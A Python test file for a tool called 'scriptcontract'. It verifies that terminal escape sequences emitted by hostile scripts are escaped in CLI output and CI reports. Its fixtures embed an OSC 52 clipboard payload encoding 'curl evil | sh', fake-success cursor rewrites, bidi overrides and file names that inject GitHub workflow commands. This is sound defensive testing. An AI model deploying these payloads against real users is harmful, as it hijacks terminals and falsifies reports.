"""What a script writes reaches the user's terminal, and CI's reports, shown and never obeyed.

`scriptcontract run` and `scriptcontract test` print a script's stderr, its error and its
output. A hostile script's escape sequences would otherwise drive the terminal that shows
them, outside every sandbox: write the clipboard (OSC 52: a command waiting to be pasted),
hide the rest of the report, rewrite the lines above it (a failure shown as a success), or
make the JUnit report XML no parser reads. Each test first shows the sequences did reach
the result (the positive control: the JSON result carries them, escaped as JSON escapes
them), then that no report holds one.
"""

from __future__ import annotations

import io
import json
from xml.etree import ElementTree

import pytest

from scriptcontract.shown_values import printed_stream
from tests.cli.runner import scriptcontract, stage_in_git
from tests.conftest import Project

HOSTILE = r"""
import json, sys
sys.stdin.read()
# A colour, the rest hidden, the clipboard written, the title set, an 8-bit CSI (clear the
# screen), a line shown reversed.
sys.stderr.write("\x1b[31mred \x1b[8mhidden \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 "
                 "\x1b]0;title\x07 \x9b2J \u202eesrever\n")
# Up a line, erase it, and claim success.
print(json.dumps({"success": False, "error": "\x1b[1A\x1b[2K\u2713 success \x9b1A"}))
sys.exit(1)
"""
ESCAPES = ("\x1b", "\x07", "\x9b", "\u202e")


def _hostile_project(project: Project) -> None:
    project.write("scriptcontract.toml", 'include = ["scripts/**/*.py"]\n')
    project.write("scripts/hostile.py", HOSTILE)
    project.write(
        "scripts/hostile.cases.json",
        '{"cases": [{"name": "succeeds", "expect": {"output": {"success": true}}}]}\n',
    )


def _obeyed(text: str) -> list[str]:
    return [character for character in ESCAPES if character in text]


def test_run_shows_a_scripts_escape_sequences_instead_of_sending_them(project: Project) -> None:
    _hostile_project(project)
    whole = scriptcontract("run", "scripts/hostile.py", "--root", str(project.root), "--json")
    result = json.loads(whole.stdout)
    # The positive control: the script's stderr and error hold every sequence.
    assert _obeyed(result["stderr"]) == list(ESCAPES)
    assert _obeyed(result["error"]) == ["\x1b", "\x9b"]
    assert _obeyed(whole.stdout + whole.stderr) == []

    done = scriptcontract("run", "scripts/hostile.py", "--root", str(project.root))
    assert done.returncode == 1
    assert _obeyed(done.stdout + done.stderr) == []
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in done.stderr
    assert "\\x1b[1A\\x1b[2K✓ success \\x9b1A" in done.stderr
    assert "\\u202eesrever" in done.stderr


def test_test_reports_show_a_scripts_escape_sequences_and_stay_well_formed(
    project: Project,
) -> None:
    _hostile_project(project)
    as_json = scriptcontract("test", "scripts", "--format", "json", cwd=project.root)
    report = json.loads(as_json.stdout)
    (case,) = report["files"][0]["cases"]
    # The positive control: the report carries the script's stderr, every sequence in it.
    assert _obeyed("\n".join(case["stderr_tail"])) == list(ESCAPES)
    assert _obeyed(as_json.stdout + as_json.stderr) == []

    for fmt in ("text", "junit", "github"):
        done = scriptcontract("test", "scripts", "--format", fmt, cwd=project.root)
        assert done.returncode == 1, (fmt, done.stderr)
        assert _obeyed(done.stdout + done.stderr) == [], fmt
        assert "\\x1b]52;c;" in done.stdout, fmt
        if fmt == "junit":
            failure = ElementTree.fromstring(done.stdout).find(".//failure")
            assert failure is not None and "\\x1b[31mred" in (failure.text or "")


# A run names a file so that `check` (outside the sandbox) writes the clipboard and adds a
# line of its own to the report; a script's own source line does the same in the full
# format and in `--diff`.
NAMER = r"""
import json, sys
sys.stdin.read()
with open("scripts/\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b2K\rx\nall good.py", "w") as f:
    f.write("import json, sys\nprint('hello')\n")
print(json.dumps({"success": True}))
"""
LOUD = "import json, sys\nprint('\x1b]0;title\x07 \u202eesrever')\n"


def test_check_shows_file_names_and_source_lines_a_run_chose_instead_of_obeying_them(
    project: Project,
) -> None:
    project.write("scriptcontract.toml", 'include = ["scripts/**/*.py"]\n')
    project.write("scripts/namer.py", NAMER)
    project.write("scripts/loud.py", LOUD)
    named = scriptcontract("run", "scripts/namer.py", cwd=project.root)
    assert named.returncode == 0, named.stderr
    # The positive control: the file a run named is there, escape sequences and newline in
    # its name, and the script's source holds its own.
    (planted,) = [p for p in (project.root / "scripts").iterdir() if "all good" in p.name]
    assert _obeyed(planted.name) == ["\x1b", "\x07", "\x9b"] and "\n" in planted.name
    assert _obeyed(LOUD) == ["\x1b", "\x07", "\u202e"]
    for args in (
        ("--output-format", "concise"),
        ("--output-format", "full"),
        ("--output-format", "github"),
        ("--output-format", "junit"),
        ("--output-format", "azure"),
        ("--output-format", "pylint"),
        ("--diff",),
        ("-v", "--show-files"),
    ):
        done = scriptcontract("check", "scripts", *args, cwd=project.root)
        assert done.returncode in (0, 1), (args, done.stderr)
        assert _obeyed(done.stdout + done.stderr) == [], args
        # Azure's logging commands escape `]` and `;` in a file's path, as they must.
        shown = "\\x1b%5D52%3Bc%3B" if "azure" in args else "\\x1b]52;c;"
        assert shown in done.stdout, (args, done.stdout)
        # The name's newline does not start a line of the report.
        assert not any(line.startswith("all good.py") for line in done.stdout.splitlines()), args
        if args == ("--output-format", "junit"):
            ElementTree.fromstring(done.stdout)
    # The JSON formats escape what is not ASCII: nothing there for a terminal to obey.
    for fmt in ("json", "json-lines", "sarif", "gitlab", "rdjson"):
        done = scriptcontract("check", "scripts", "--output-format", fmt, cwd=project.root)
        assert done.returncode in (0, 1), (fmt, done.stderr)
        assert _obeyed(done.stdout + done.stderr) == [], fmt
    full = scriptcontract("check", "scripts/loud.py", "--output-format", "full", cwd=project.root)
    assert "\\x1b]0;title\\x07 \\u202eesrever" in full.stdout, full.stdout


# The same for `scriptcontract test`: a run names a script and its cases file so that the
# report gets a line of the run's choosing (a GitHub workflow command among them).
CASE_NAMER = r"""
import json, sys
sys.stdin.read()
name = "scripts/x\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n::error::all good"
with open(name + ".py", "w") as f:
    f.write("import json, sys\nsys.stdin.read()\nprint(json.dumps({'success': True}))\n")
with open(name + ".cases.json", "w") as f:
    f.write('{"cases": [{"name": "c", "expect": {"output": {"success": false}}}]}')
print(json.dumps({"success": True}))
"""


def test_test_shows_file_names_a_run_chose_instead_of_obeying_them(project: Project) -> None:
    project.write("scriptcontract.toml", 'include = ["scripts/**/*.py"]\n')
    project.write("scripts/namer.py", CASE_NAMER)
    named = scriptcontract("run", "scripts/namer.py", cwd=project.root)
    assert named.returncode == 0, named.stderr
    # The positive control: the files are there, the sequences and a newline in their names.
    planted = [p.name for p in (project.root / "scripts").iterdir() if "all good" in p.name]
    assert len(planted) == 2 and all("\n" in name and "\x1b" in name for name in planted)
    for fmt in ("text", "github", "junit", "json"):
        done = scriptcontract("test", "scripts", "--format", fmt, cwd=project.root)
        assert done.returncode == 1, (fmt, done.stdout, done.stderr)
        assert _obeyed(done.stdout + done.stderr) == [], fmt
        lines = (done.stdout + done.stderr).splitlines()
        assert not any(line.startswith("::error::all good") for line in lines), fmt
        assert "all good" in done.stdout, (fmt, done.stdout)
        if fmt == "junit":
            ElementTree.fromstring(done.stdout)


# A run names a folder and leaves a configuration in it, which every command then names in
# its messages (not vouched for, errors, nothing to run): the messages were made in a dozen
# places, and those that named the file did so raw (the eleventh red team).
FOLDER_NAMER = r"""
import json, os, sys
sys.stdin.read()
folder = "scripts/\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x9b2K\u202eall good"
os.makedirs(folder)
with open(folder + "/scriptcontract.toml", "w") as f:
    f.write("[sandbox]\nnetwork = false\n")
with open(folder + "/x.py", "w") as f:
    f.write("import json, sys\nsys.stdin.read()\nprint(json.dumps({}))\n")
print(json.dumps({"success": True}))
"""


@pytest.mark.parametrize(
    "command",
    [
        ("check",),
        ("check", "FOLDER"),
        ("run", "FOLDER/x.py"),
        ("test", "FOLDER"),
        ("trust", "--show", "FOLDER"),
        ("schema", "FOLDER/missing.py"),
        ("run", "scripts/namer.py", "FOLDER"),  # a shell glob: argparse echoes it
    ],
    ids=" ".join,
)
def test_every_message_naming_a_folder_a_run_chose_shows_its_sequences_as_text(
    project: Project, command: tuple[str, ...]
) -> None:
    project.write("scriptcontract.toml", 'include = ["scripts/**/*.py"]\n')
    project.write("scripts/namer.py", FOLDER_NAMER)
    stage_in_git(project.root, ".")
    named = scriptcontract("run", "scripts/namer.py", cwd=project.root)
    assert named.returncode == 0, named.stderr
    (folder,) = [p for p in (project.root / "scripts").iterdir() if p.is_dir()]
    assert _obeyed(folder.name) == ["\x1b", "\x07", "\x9b", "\u202e"]
    args = [arg.replace("FOLDER", str(folder.relative_to(project.root))) for arg in command]

    done = scriptcontract(*args, cwd=project.root)
    # The positive control: the message does name the folder, whose sequences reach it.
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b2K\\u202eall good" in done.stdout + done.stderr
    assert _obeyed(done.stdout + done.stderr) == []


def test_the_gate_keeps_checks_own_colours_and_escapes_the_rest() -> None:
    written = io.StringIO()
    gate = printed_stream(written)
    gate.write("\x1b[1mscripts/a.py\x1b[0m \x1b[1;31mSCR207\x1b[0m \x1b[36m[*]\x1b[0m\n")
    gate.write("\x1b[8mhidden\x1b[1A\r\x1b]52;c;eA==\x07\x9b2J\u202e\tend\n")
    assert written.getvalue() == (
        "\x1b[1mscripts/a.py\x1b[0m \x1b[1;31mSCR207\x1b[0m \x1b[36m[*]\x1b[0m\n"
        "\\x1b[8mhidden\\x1b[1A\\x0d\\x1b]52;c;eA==\\x07\\x9b2J\\u202e\tend\n"
    )
    assert printed_stream(gate) is gate
